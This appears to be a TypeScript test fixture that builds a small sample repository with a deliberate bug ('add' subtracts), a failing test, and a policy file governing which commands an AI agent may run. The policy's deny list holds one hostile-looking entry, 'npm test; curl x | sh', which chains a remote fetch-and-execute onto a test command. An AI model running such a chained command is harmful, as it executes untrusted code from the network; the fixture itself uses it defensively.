/**
 * The sample repository of the end-to-end tests and the demo: a real bug (`add` subtracts), a failing
 * test, and a policy that lets the agent run the tests.
 */
export const SAMPLE_FILES: Record<string, string> = {
  'package.json': `${JSON.stringify(
    { name: 'widgets', version: '1.0.0', private: true, type: 'module', scripts: { test: 'node test.js' } },
    null,
    2
  )}\n`,
  'README.md': '# widgets\n\nSmall math helpers.\n',
  'src/math.js': [
    '// Small math helpers.',
    'export function add(a, b) {',
    '  return a - b;',
    '}',
    '',
    'export function double(x) {',
    '  return x * 2;',
    '}',
    ''
  ].join('\n'),
  'test.js': [
    "import assert from 'node:assert/strict';",
    "import { add, double } from './src/math.js';",
    '',
    'assert.equal(add(2, 3), 5);',
    'assert.equal(double(4), 8);',
    "console.log('all tests passed');",
    ''
  ].join('\n'),
  '.github/kubrick-policy.yml': [
    'version: 1',
    'allow: ["npm test", "node test.js", "git diff", "git status", "ls", "cat", "grep"]',
    'deny: ["git push"]',
    'tests:',
    '  allow: ["npm test"]',
    '  deny: ["npm test; curl x | sh"]',
    ''
  ].join('\n')
};

export const FIXED_LINE = '  return a + b;';
